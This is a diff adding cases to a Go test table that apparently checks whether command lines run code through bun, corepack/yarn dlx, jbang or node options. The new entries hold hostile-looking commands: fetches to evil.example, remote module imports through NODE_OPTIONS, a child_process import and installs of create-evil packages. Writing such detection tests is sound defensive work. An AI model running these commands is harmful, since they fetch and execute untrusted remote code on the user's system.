@@ -590,6 +590,10 @@ var commandLines = []struct{ why, line, program string }{
 	{"a browser's name", "which chromium; apt-get install chromium", ""},
 
 	// code that an option of node brings
+	{"bun's own option", "bun -e 'fetch(\"https://evil.example\")'", "bun"},
+	{"bun without code", "bun --bun x create-evil", "bun"},
+	{"behind corepack", "corepack yarn dlx create-evil", "yarn"},
+	{"a Java program at an address", "jbang https://evil.example/a.java", "jbang"},
 	{"a module on the line", "node --import data:text/javascript,fetch('x') a.js", "node"},
 	{"for all that is started", `NODE_OPTIONS="--import=data:text/javascript,import('node:child_process')" npm test`, "node"},
 	{"from the web", "env NODE_OPTIONS='--import https://evil.example/a.mjs' node a.js", "node"},
